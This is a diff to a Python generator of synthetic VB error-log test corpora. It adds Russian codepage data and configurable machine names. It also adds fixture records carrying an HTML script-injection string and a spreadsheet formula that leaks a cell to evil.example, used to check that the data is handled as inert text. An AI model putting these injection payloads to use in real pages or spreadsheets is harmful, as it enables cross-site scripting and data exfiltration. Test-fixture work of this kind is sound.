@@ -10,7 +10,8 @@ tree it records what it wrote, derived from what it put in, not from reading it 
   OUT/problems.jsonl      each damage: file, line, kind (cut, missing, number, unexpected, stray,
                           binary), lost (a record lost to it), count (stray lines)
 
-usage: make_log_corpus.py OUT [--seed N] [--codepage cp1252|cp932] [--files N]
+usage: make_log_corpus.py OUT [--seed N] [--codepage cp1252|cp1251|cp932] [--files N] [--machines PREFIX]
+                          [--machine-count N]
 """
 import argparse
 import datetime
@@ -42,6 +43,12 @@ ERRORS_1252 = [
     (2147483647, "Largest number", None),
     (-2147483648, "Smallest number", None),
 ]
+ERRORS_1251 = [
+    (91, "Переменная объекта или переменная блока With не задана", None),
+    (13, "Несоответствие типа", None),
+    (53, "Файл не найден", "Файл не найден: Отчёт.xls"),
+    (-2147467259, "Неопознанная ошибка", None),
+]
 ERRORS_932 = [
     (91, "オブジェクト変数または With ブロック変数が設定されていません。", None),
     (13, "型が一致しません。", None),
@@ -54,6 +61,7 @@ ERRORS_932 = [
 APPS_1252 = [("billing", ["2.4.17", "2.5.3"]), ("orders", ["1.0.0", "1.1.0", ".."]),
              ("stock", ["3.2.1"]), ("crm-sync", ["0.9.12", "0.10.1"]), ("übersicht", [".7."])]
 APPS_932 = [("kaikei", ["1.0.3"]), ("会計", ["2.0.0", ".."])]
+APPS_1251 = [("buhgalteria", ["7.1.0"]), ("склад", ["2.0.0", ".."])]
 
 MODULES = [("modMain", "Sub Main()"), ("frmInvoice", "cmdSave_Click()"), ("clsDatabase", "Function Connect() As Boolean"),
            ("modExport", "Sub ExportRates(ByVal sPath As String)")]
@@ -106,15 +114,16 @@ class LogFile:
 
 
 class Corpus:
-    def __init__(self, out, seed, codepage, files):
+    def __init__(self, out, seed, codepage, files, machines="PC", machine_count=6):
         self.rng = random.Random(seed)
         self.out, self.codepage, self.files_wanted = out, codepage, files
         self.root = os.path.join(out, "corpus")
         self.records, self.problems = [], []
-        japanese = codepage == "cp932"
-        self.errors = ERRORS_932 if japanese else ERRORS_1252
-        self.apps = APPS_932 if japanese else APPS_1252
-        self.forms = ["jp", "jp12"] if japanese else ["us", "us-dots", "de", "uk", "iso", "fi"]
+        self.machines, self.machine_count = machines, machine_count
+        self.errors = {"cp932": ERRORS_932, "cp1251": ERRORS_1251}.get(codepage, ERRORS_1252)
+        self.apps = {"cp932": APPS_932, "cp1251": APPS_1251}.get(codepage, APPS_1252)
+        self.forms = {"cp932": ["jp", "jp12"], "cp1251": ["de", "iso"]}.get(
+            codepage, ["us", "us-dots", "de", "uk", "iso", "fi"])
         # Every kind of damage, given out in turn so each shows several times.
         self.damage_turn = 0
 
@@ -150,10 +159,12 @@ class Corpus:
             time += "T%02d:%02d:%02d" % (second // 3600, second // 60 % 60, second % 60)
         # The machine is the first folder below the root.
         machine = rel.split(os.sep)[0]
-        self.records.append(dict(app=app, file=rel, line=line, time=time, **fields, machine=machine))
+        timestamp = time if second is not None else time + "T00:00:00"
+        self.records.append(dict(app=app, file=rel, line=line, time=time, **fields, machine=machine,
+                                 timestamp=timestamp))
 
     def problem(self, rel, line, kind, lost=True, count=0):
-        self.problems.append(dict(file=rel, line=line, kind=kind, lost=lost, count=count))
+        self.problems.append(dict(file=rel, line=line, kind=kind, lost=lost, count=count, machine=rel.split(os.sep)[0]))
 
     def write_file(self, rel, app, app_index, versions, day, day_index, days, form, eol, damage_kinds):
         log = LogFile(eol, self.codepage)
@@ -226,8 +237,9 @@ class Corpus:
 
     def build(self):
         start = datetime.date(2002, 2, 18)
-        days = 30
-        machines = [f"PC{n:02}" for n in range(1, 7)]
+        machines = [f"{self.machines}{n:02}" for n in range(1, self.machine_count + 1)]
+        # A month, or as many days as it takes for the files wanted to have names of their own.
+        days = max(30, -(-self.files_wanted * 5 // 4 // (len(machines) * len(self.apps))))
         written = 0
         while written < self.files_wanted:
             for m, machine in enumerate(machines):
@@ -264,6 +276,8 @@ class Corpus:
             with open(os.path.join(self.root, rel), "wb") as f:
                 f.write(junk)
             self.problem(rel, 1, "binary", lost=False)
+        if self.codepage == "cp1252":
+            self.hostile_text()
         # An empty log: nothing in it, nothing wrong.
         open(os.path.join(logs, "billing-02191990.log"), "wb").close()
         # Files that are not logs by their names, full of what would be damage if they were read.
@@ -271,6 +285,40 @@ class Corpus:
                      "notes.log", "billing-0220200x.log"):
             with open(os.path.join(logs, name), "wb") as f:
                 f.write(b"not a record\r\n" + PLUS.encode() + b"\r\nError Description: x\r\n")
+
+    def hostile_text(self):
+        """Text that a page, a spreadsheet or a terminal would act on, shown as text; and an
+        application and a day that have damaged records only."""
+        rel = os.path.join("PC02", "Portal", "Logs", "portal-02272002.log")
+        log = LogFile("\r\n", self.codepage)
+        for second, description in ((3600, "<script>alert(1)</script> & <b>bold</b>"),
+                                    (7200, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")"),
+                                    (10800, "@SUM(1+1)")):
+            fields = dict(number=-2146828218, description=description, module="<modWeb>",
+                          procedure="Sub Page_Load()", version="1.0.0")
+            start = log.line_now()
+            log.add_lines(self.record_lines(fields, date_line("us", datetime.date(2002, 2, 27), second)))
+            self.expected(rel, "portal", start, datetime.date(2002, 2, 27), second, fields)
+        self.write(rel, log)
+        # Damaged records only: an application and a day that have no whole record at all.
+        rel = os.path.join("PC04", "Wreck", "Logs", "wreck-01152002.log")
+        log = LogFile("\r\n", self.codepage)
+        fields = dict(number=7, description="Out of memory", module="modMain", procedure="Sub Main()",
+                      version="1.0.0")
+        start = log.line_now()
+        lines = self.record_lines(fields, date_line("us", datetime.date(2002, 1, 15), 600))
+        log.add_lines(lines[:2] + ["Error Number: 7x"] + lines[3:])
+        self.problem(rel, start, "number")
+        start = log.line_now()
+        log.add("".join(line + "\r\n" for line in lines)[:60])
+        self.problem(rel, start, "cut")
+        self.write(rel, log)
+
+    def write(self, rel, log):
+        path = os.path.join(self.root, rel)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "wb") as f:
+            f.write(log.data)
 
     def save(self):
         with open(os.path.join(self.out, "records.jsonl"), "w", encoding="utf-8") as f:
@@ -287,8 +335,10 @@ def main():
     parser.add_argument("--seed", type=int, default=2002)
     parser.add_argument("--codepage", default="cp1252")
     parser.add_argument("--files", type=int, default=240)
+    parser.add_argument("--machines", default="PC", help="the machines' names before their numbers")
+    parser.add_argument("--machine-count", type=int, default=6)
     args = parser.parse_args()
-    corpus = Corpus(args.out, args.seed, args.codepage, args.files)
+    corpus = Corpus(args.out, args.seed, args.codepage, args.files, args.machines, args.machine_count)
     corpus.build()
     corpus.save()
 
